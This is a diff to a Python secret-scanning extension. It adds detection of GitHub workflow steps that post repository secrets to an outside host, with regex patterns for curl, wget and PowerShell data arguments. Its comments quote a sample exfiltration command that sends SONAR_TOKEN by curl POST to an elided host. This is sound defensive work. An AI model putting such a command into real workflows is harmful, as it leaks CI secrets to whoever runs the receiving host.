@@ -3,6 +3,8 @@
 - a Java properties file's setting named as a credential with a generated value (``chatbot.recast.token=10791544c2df…``):
   detect-secrets reads only quoted values there, and ``token`` is not in its keyword list;
 - a literal token in an HTTP ``Authorization`` header (``-H "Authorization: Token 10791544c2df…"``, ``"Bearer eyJ…"``);
+- a GitHub workflow posting the repository's secrets to a host (``curl -X POST -d 'SONAR_TOKEN=${{ secrets.SONAR_TOKEN }}' https://…``):
+  they leak at every run, to be revoked like a committed one;
 - not secrets: a package pinned in a dependency list (a conda export's ``secretstorage=3.3.1=py310h06a4308_1``) and a
   dotted key name given as a value (``pwd-orange.pwd:`` then ``jcmsplugin.zelli.lbl.account.pwdReset.is.ko``, the
   following properties lines read as its continuation by detect-secrets' INI reading).
@@ -29,6 +31,23 @@ DEPENDENCY_LISTS = lazy_compile(r"""(^|/)(requirements[\w.-]*\.(?:txt|in)|constr
 _KEY_NAME = lazy_compile(r"""^[A-Za-z_][\w-]*(?:\.[A-Za-z_][\w-]*){2,}[:\\]*$""")
 
 
+# A CI step posting the repository's secrets as form data (the 2025 "GhostAction" pattern: curl -X POST -d
+# 'SONAR_TOKEN=${{ secrets.SONAR_TOKEN }}&…' https://<some host>): the secrets leave for whoever runs that host
+CI_FILE = lazy_compile(r"""(^|/)\.github/workflows/[^/]+\.ya?ml$""")
+_DATA_ARG = lazy_compile(r"""\b(?:curl|wget|Invoke-WebRequest|Invoke-RestMethod)\b.*?(?:\s-d|--data(?:-raw|-binary|-urlencode)?|\s-F|--form|--post-data|-Body)(?:\s+|=)(['"])(.*?)\1""")
+_SECRET_FIELD = lazy_compile(r"""(\w+)=\$\{\{\s*secrets\.(\w+)\s*\}\}""")
+
+
+def _sends_secrets(line: str) -> bool:
+    """The command posts secrets as data fields named after them, or several secrets at once (a service's own token sent
+    to that service is one field under the service's name: -F token=${{ secrets.CODECOV_TOKEN }})."""
+    m = _DATA_ARG.search(line)
+    if not m or "secrets." not in m.group(2):
+        return False
+    fields = _SECRET_FIELD.findall(m.group(2))
+    return any(k.lower() == v.lower() for k, v in fields) or m.group(2).count("secrets.") >= 2
+
+
 def _hash(value: str) -> str:
     return hashlib.sha1(value.encode("utf-8", "replace")).hexdigest()  # as detect-secrets hashes its secrets
 
@@ -37,8 +56,12 @@ def extra_findings(path: str, text: str) -> list[tuple]:
     """Credentials of a properties file's settings and of literal Authorization headers, as (type, line, hash, text)."""
     out = []
     properties = path.lower().endswith(PROPERTIES_EXT)
+    ci = bool(CI_FILE.search(path))
     for number, line in enumerate(text.split("\n"), 1):
         if len(line) > 4000:
+            continue
+        if ci and "secrets." in line and _sends_secrets(line):
+            out.append(("CI secrets sent to an outside host", number, _hash(line.strip()), line))
             continue
         if properties and not line.lstrip().startswith(("#", "!")) and (m := _PROPERTY.match(line)):
             value = m.group(2)
